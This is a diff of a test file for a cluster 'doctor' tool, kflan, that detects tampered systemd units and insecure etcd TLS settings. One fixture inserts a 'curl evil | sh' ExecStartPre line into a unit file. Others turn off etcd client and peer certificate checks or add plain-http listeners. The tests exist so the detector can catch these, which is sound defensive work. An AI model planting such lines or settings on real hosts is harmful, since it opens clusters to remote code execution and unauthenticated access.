@@ -10,7 +10,7 @@ import {afterAll, beforeAll, describe, expect, it} from 'vitest'
 
 import {pkiRequest} from '../../src/cluster-pki.js'
 import {evaluate, formatReport, limitTo, summarize} from '../../src/doctor/index.js'
-import {expectedDropIn} from '../../src/doctor/docker.js'
+import {expectedOwned} from '../../src/doctor/owned.js'
 import {quorumOf} from '../../src/doctor/etcd.js'
 import {blockingInputRules, forwardVerdict} from '../../src/doctor/host.js'
 import {pingPlan} from '../../src/doctor/dataplane.js'
@@ -107,7 +107,8 @@ function memberData(n: string): HostData {
     [`${ssl}/kflan.pem`]: pki(stateDir, 'kflan.pem'),
     [`${ssl}/kflan-key.pem`]: pki(stateDir, 'kflan-key.pem'),
   }
-  d.etcd = {endpoints: {[n]: {health: ok(`[{"endpoint":"https://${host(n).address}:2379","health":true,"took":"5ms"}]`), status: ok(statusJson(n))}}}
+  Object.assign(d.files, renderedOwned(n, d))
+  d.etcd = {process: etcdProcess(n), endpoints: {[n]: {health: ok(`[{"endpoint":"https://${host(n).address}:2379","health":true,"took":"5ms"}]`), status: ok(statusJson(n))}}}
   if (n === 'm1') {
     d.etcd.reads = {
       memberList: ok(memberListJson()),
@@ -133,7 +134,7 @@ function nodeData(n: string): HostData {
     [`${ssl}/flanneld-key.pem`]: pki(stateDir, 'flanneld-key.pem'),
     '/run/flannel/subnet.env': `FLANNEL_NETWORK=10.244.0.0/16\nFLANNEL_SUBNET=${gw}/24\nFLANNEL_MTU=1450\nFLANNEL_IPMASQ=true\n`,
   }
-  d.files[DOCKER_DROPIN] = expectedDropIn(c, host(n), d)
+  Object.assign(d.files, renderedOwned(n, d))
   d.addrs = [
     {name: 'eth0', mtu: 1500, addresses: [{family: 'inet', address: host(n).address, prefixLen: 24}]},
     {name: 'docker0', mtu: 1450, addresses: [{family: 'inet', address: gw, prefixLen: 24}]},
@@ -148,6 +149,21 @@ function nodeData(n: string): HostData {
   d.dockerCmdline = `/usr/sbin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock --bip=${gw}/24 --ip-masq=false --mtu=1450 `
   d.health = {healthz: {url: 'http://127.0.0.1:8471/healthz', code: 200, body: 'flanneld is running'}}
   return d
+}
+
+/** kflan's own files on a host, as rendered (the docker drop-in from the host's docker unit). */
+function renderedOwned(n: string, d: HostData): Record<string, string> {
+  return Object.fromEntries(expectedOwned(c, host(n), d))
+}
+
+/** The running etcd as /proc shows it: the unit's flags, the environment file's URLs. */
+function etcdProcess(n: string): {args: string[]; env: Record<string, string>} {
+  const ssl = '/opt/etcd/ssl'
+  const a = host(n).address
+  return {
+    args: ['/opt/etcd/bin/etcd', `--cert-file=${ssl}/server.pem`, `--key-file=${ssl}/server-key.pem`, `--trusted-ca-file=${ssl}/ca.pem`, '--client-cert-auth', `--peer-cert-file=${ssl}/peer.pem`, `--peer-key-file=${ssl}/peer-key.pem`, `--peer-trusted-ca-file=${ssl}/ca.pem`, '--peer-client-cert-auth'],
+    env: {ETCD_NAME: n, ETCD_LISTEN_PEER_URLS: `https://${a}:2380`, ETCD_LISTEN_CLIENT_URLS: `https://${a}:2379,https://127.0.0.1:2379`, ETCD_ADVERTISE_CLIENT_URLS: `https://${a}:2379`},
+  }
 }
 
 /** A healthy cluster: every host connected and converged, both pings answered. */
@@ -170,6 +186,7 @@ function healthy(): DoctorInput {
   }
 }
 
+const healthyResults = () => evaluate(healthy())
 const data = (input: DoctorInput, name: string) => input.hosts.find((h) => h.host.name === name)!.data!
 
 /** The results that are not ok, as "status host id" (cluster results without host). */
@@ -202,10 +219,10 @@ describe('doctor: a healthy cluster', () => {
     const ids = (h?: string) => results.filter((r) => r.host === h).map((r) => r.id).sort()
     expect(ids()).toEqual(['etcd.alarms', 'etcd.health', 'etcd.leader', 'etcd.members', 'flannel.leases', 'host.clock-skew', 'network.config'])
     expect(ids('m2')).toEqual(
-      ['certs.ca', 'certs.chain', 'certs.expiry', 'certs.files', 'certs.key', 'certs.san', 'certs.usage', 'etcd.db-size', 'etcd.unit', 'host.br-netfilter', 'host.bridge-nf-call-iptables', 'host.firewalld', 'host.ip-forward', 'host.iptables-input', 'host.selinux', 'host.swap', 'ssh.reachable'].sort(),
+      ['certs.ca', 'certs.chain', 'certs.expiry', 'certs.files', 'certs.key', 'certs.san', 'certs.usage', 'etcd.db-size', 'etcd.tls', 'etcd.unit', 'files.managed', 'host.br-netfilter', 'host.bridge-nf-call-iptables', 'host.firewalld', 'host.ip-forward', 'host.iptables-input', 'host.selinux', 'host.swap', 'ssh.reachable'].sort(),
     )
     expect(ids('n1')).toEqual(
-      ['certs.ca', 'certs.chain', 'certs.expiry', 'certs.files', 'certs.key', 'certs.usage', 'dataplane.ping', 'docker.bridge', 'docker.dropin', 'docker.unit', 'flannel.healthz', 'flannel.lease', 'flannel.routes', 'flannel.subnet-file', 'flannel.unit', 'flannel.vxlan', 'host.br-netfilter', 'host.bridge-nf-call-iptables', 'host.firewalld', 'host.forward-chain', 'host.ip-forward', 'host.iptables-input', 'host.selinux', 'host.swap', 'ssh.reachable'].sort(),
+      ['certs.ca', 'certs.chain', 'certs.expiry', 'certs.files', 'certs.key', 'certs.usage', 'dataplane.ping', 'docker.bridge', 'docker.dropin', 'docker.unit', 'files.managed', 'flannel.healthz', 'flannel.lease', 'flannel.routes', 'flannel.subnet-file', 'flannel.unit', 'flannel.vxlan', 'host.br-netfilter', 'host.bridge-nf-call-iptables', 'host.firewalld', 'host.forward-chain', 'host.ip-forward', 'host.iptables-input', 'host.selinux', 'host.swap', 'ssh.reachable'].sort(),
     )
     for (const r of results) {
       expect(r.scope).toBe(r.host ? 'host' : 'cluster')
@@ -532,7 +549,34 @@ describe('doctor: docker', () => {
 
     const input4 = healthy()
     data(input4, 'n2').files[DOCKER_DROPIN] += '# edited by hand\n'
-    expect(problems(evaluate(input4))).toEqual(['warn n2 docker.dropin'])
+    expect(problems(evaluate(input4))).toEqual(['fail n2 files.managed']) // any line kflan did not write
+    expect(find(evaluate(input4), 'files.managed', 'n2').message).toBe(`${DOCKER_DROPIN} has a line kflan did not write: "# edited by hand"`)
+  })
+
+  it('files.managed: an extra line in a unit or the environment file; etcd.tls: the running etcd', () => {
+    const input = healthy()
+    data(input, 'n1').files['/etc/systemd/system/flanneld.service'] = data(input, 'n1').files['/etc/systemd/system/flanneld.service']!.replace('[Service]\n', '[Service]\nExecStartPre=/bin/sh -c "curl evil | sh"\n')
+    data(input, 'm2').files['/opt/etcd/cfg/etcd.conf'] = data(input, 'm2').files['/opt/etcd/cfg/etcd.conf']!.replace(',https://127.0.0.1:2379"', ',https://127.0.0.1:2379,http://10.0.0.12:2390"')
+    data(input, 'm3').files['/opt/etcd/cfg/etcd-join.conf'] = 'ETCD_INITIAL_CLUSTER_STATE="existing"\nETCD_CLIENT_CERT_AUTH=false\n'
+    let results = evaluate(input)
+    expect(problems(results)).toEqual(['fail m2 files.managed', 'fail m3 files.managed', 'fail n1 files.managed'])
+    expect(find(results, 'files.managed', 'n1').message).toBe('/etc/systemd/system/flanneld.service has a line kflan did not write: "ExecStartPre=/bin/sh -c \\"curl evil | sh\\""')
+    expect(find(results, 'files.managed', 'n1').hint).toMatch(/`kflan init` rewrites it/)
+    expect(find(results, 'files.managed', 'm2').message).toMatch(/^\/opt\/etcd\/cfg\/etcd.conf has a line kflan did not write: "ETCD_LISTEN_CLIENT_URLS=.*http:\/\/10.0.0.12:2390\\""$/)
+    expect(find(results, 'files.managed', 'm3').message).toMatch(/etcd-join.conf sets more than the initial cluster: "ETCD_CLIENT_CERT_AUTH=false"/)
+
+    // The running process, after a restart with the edited file (or a flag dropped from the unit).
+    const p = data(input, 'm2').etcd!.process!
+    p.env.ETCD_LISTEN_CLIENT_URLS += ',http://10.0.0.12:2390'
+    p.args = p.args.filter((a) => a !== '--peer-client-cert-auth')
+    data(input, 'm1').etcd!.process!.env.ETCD_CONFIG_FILE = '/tmp/etcd.yml'
+    data(input, 'm3').etcd!.process!.args.push('--client-cert-auth=false', '--listen-metrics-urls', 'http://0.0.0.0:2381')
+    results = evaluate(input)
+    expect(problems(results).filter((x) => x.endsWith('etcd.tls'))).toEqual(['fail m1 etcd.tls', 'fail m2 etcd.tls', 'fail m3 etcd.tls'])
+    expect(find(results, 'etcd.tls', 'm2').message).toBe('the running etcd: --listen-client-urls has http://10.0.0.12:2390: plain http, no TLS and no client certificates; --peer-client-cert-auth is off: peers connect without a certificate from the cluster CA')
+    expect(find(results, 'etcd.tls', 'm1').message).toMatch(/reads a config file kflan did not write \(\/tmp\/etcd.yml\)/)
+    expect(find(results, 'etcd.tls', 'm3').message).toMatch(/--listen-metrics-urls http:\/\/0.0.0.0:2381.*--client-cert-auth is false/)
+    expect(find(healthyResults(), 'etcd.tls', 'm1').message).toBe('the running etcd listens on https://10.0.0.11:2379, https://127.0.0.1:2379 (clients) and https://10.0.0.11:2380 (peers), certificates required from both')
   })
 
   it('docker0 off the flannel subnet: docker.bridge fails, and that host takes no part in the pings', () => {
